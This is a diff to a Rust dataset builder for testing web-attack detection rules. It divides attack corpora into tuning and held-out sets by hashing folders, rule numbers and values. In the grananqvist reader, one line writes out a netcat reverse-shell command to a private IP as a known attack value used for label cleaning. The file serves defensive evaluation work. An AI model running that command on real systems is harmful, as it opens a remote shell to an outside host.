@@ -13,7 +13,8 @@
 //! # The split
 //! Fixed by source before any rule was tuned, see [`SETS`]: rules may be looked at against `Tuning` sets only. Two sets are
 //! divided, because some forms have no other examples: the regression tests by the rule they are for, fwaf by the folder of the path,
-//! so that near-duplicates stay on one side.
+//! so that near-duplicates stay on one side. What was held out of two sets was divided once more, by the next bit of the rule's number
+//! and by a hash of the attack's value: one part was read from then on (`…-read`), the other stays held out.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::io::Read;
@@ -91,7 +92,9 @@ const SETS: &[(&str, Part, Reader)] = &[
     ("gotestwaf-false", Part::Tuning, |data, to| {
         gotestwaf(&data.join("web-gotestwaf-crs/gotestwaf_testcases/false-pos"), to)
     }),
-    ("crs-even", Part::Tuning, |data, to| core_rule_set::read(data, 0, to)),
+    ("crs-even", Part::Tuning, |data, to| core_rule_set::read(data, &[0, 2], to)),
+    ("crs-odd-read", Part::Tuning, |data, to| core_rule_set::read(data, &[1], to)),
+    ("grananqvist-read", Part::Tuning, |data, to| grananqvist(data, true, to)),
     ("fwaf-even", Part::Tuning, |data, to| fwaf(data, 0, false, to)),
     ("fwaf-even-names", Part::Tuning, |data, to| fwaf(data, 0, true, to)),
     ("french-even", Part::Tuning, |data, to| french(data, 0, to)),
@@ -104,11 +107,11 @@ const SETS: &[(&str, Part, Reader)] = &[
     ("gotestwaf-community", Part::HeldOut, |data, to| {
         gotestwaf(&data.join("web-gotestwaf-crs/gotestwaf_testcases/community"), to)
     }),
-    ("crs-odd", Part::HeldOut, |data, to| core_rule_set::read(data, 1, to)),
+    ("crs-odd", Part::HeldOut, |data, to| core_rule_set::read(data, &[3], to)),
     ("torpeda2012", Part::HeldOut, torpeda),
     ("fwaf-odd", Part::HeldOut, |data, to| fwaf(data, 1, false, to)),
     ("fwaf-odd-names", Part::HeldOut, |data, to| fwaf(data, 1, true, to)),
-    ("grananqvist", Part::HeldOut, grananqvist),
+    ("grananqvist", Part::HeldOut, |data, to| grananqvist(data, false, to)),
     ("french-odd", Part::HeldOut, |data, to| french(data, 1, to)),
     ("acunetix", Part::Unlabelled, |data, to| log(&data.join("web-ocatak-scans/acunetix.log.gz"), to)),
     ("netsparker", Part::Unlabelled, |data, to| log(&data.join("web-ocatak-scans/netsparker.log.gz"), to)),
@@ -538,22 +541,24 @@ fn fwaf(data: &Path, remainder: u64, names: bool, to: &mut Collector) -> Result<
         let line = line.strip_suffix(b"\r").unwrap_or(line);
         let path = line.split(|byte| *byte == b'?').next().unwrap_or_default();
         let folder = &path[..path.iter().rposition(|byte| *byte == b'/').unwrap_or(0)];
-        // FNV-1a, 64 bits.
-        let hash = folder
-            .iter()
-            .fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| (hash ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3));
         let is_name = line.iter().all(|byte| byte.is_ascii_alphanumeric() || b"/._-~'".contains(byte))
             && !line.windows(2).any(|pair| pair == b"..");
-        if (hash >> 32) % 2 == remainder && is_name == names {
+        if (hash(folder) >> 32) % 2 == remainder && is_name == names {
             to.raw(if line.first() == Some(&b'/') { "" } else { "/" }, line, &Label::Attack(ANY));
         }
     }
     Ok(())
 }
 
+/// FNV-1a, 64 bits.
+fn hash(bytes: &[u8]) -> u64 {
+    bytes.iter().fold(0xcbf2_9ce4_8422_2325, |hash, byte| (hash ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3))
+}
+
 /// Its ordinary values hold attacks, as its description says and quotes: those that are the quoted one but for numbers, and those that
-/// fwaf lists as attacks, are left out.
-fn grananqvist(data: &Path, to: &mut Collector) -> Result<()> {
+/// fwaf lists as attacks, are left out. `to_read` takes a quarter of the attacks, chosen by a hash of the value in lower case without its
+/// numbers (so that variants stay together), instead of the others and the ordinary values.
+fn grananqvist(data: &Path, to_read: bool, to: &mut Collector) -> Result<()> {
     let mut attacks = values_of_attacks(data)?;
     attacks.insert(without_numbers(b"nc 192.168.202.118 21942 -e /bin/sh"));
     for row in rows(&data.join("web-grananqvist/payloads.csv.gz"))? {
@@ -565,6 +570,10 @@ fn grananqvist(data: &Path, to: &mut Collector) -> Result<()> {
             b"SHELL" => Label::Attack(SHELL),
             _ => continue,
         };
+        let is_read = label != Label::Ordinary && (hash(&without_numbers(value)) >> 32).is_multiple_of(4);
+        if is_read != to_read {
+            continue;
+        }
         if label == Label::Ordinary && attacks.contains(&without_numbers(value)) {
             *to.excluded.entry(Excluded::Contradicted).or_default() += 1;
             continue;
